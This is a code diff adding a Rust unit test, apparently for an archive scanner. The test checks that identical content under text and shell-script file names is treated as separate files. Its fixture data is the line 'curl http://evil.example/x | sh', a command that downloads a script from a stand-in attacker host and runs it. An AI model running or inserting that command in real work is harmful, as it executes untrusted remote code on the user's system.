@@ -289,6 +289,14 @@ mod tests {
         assert_eq!((&full["member_count"], lines), (&3.into(), vec![(Level::Info, "members 3".into())]));
     }
 
+    /// As a text it does nothing, and as a script it may.
+    #[test]
+    fn the_same_content_by_two_names_is_two_files() {
+        let text = &b"curl http://evil.example/x | sh"[..];
+        let data = fixtures::zip(&[("notes.txt", text), ("letter.txt", text), ("run.sh", text), ("again.SH", text)]);
+        assert_eq!(names("a.zip", &data), ["notes.txt", "run.sh"]);
+    }
+
     /// A shell runs the beginning, and Java or an unpacker the end.
     #[test]
     fn an_archive_behind_a_script_or_a_program_is_opened() {
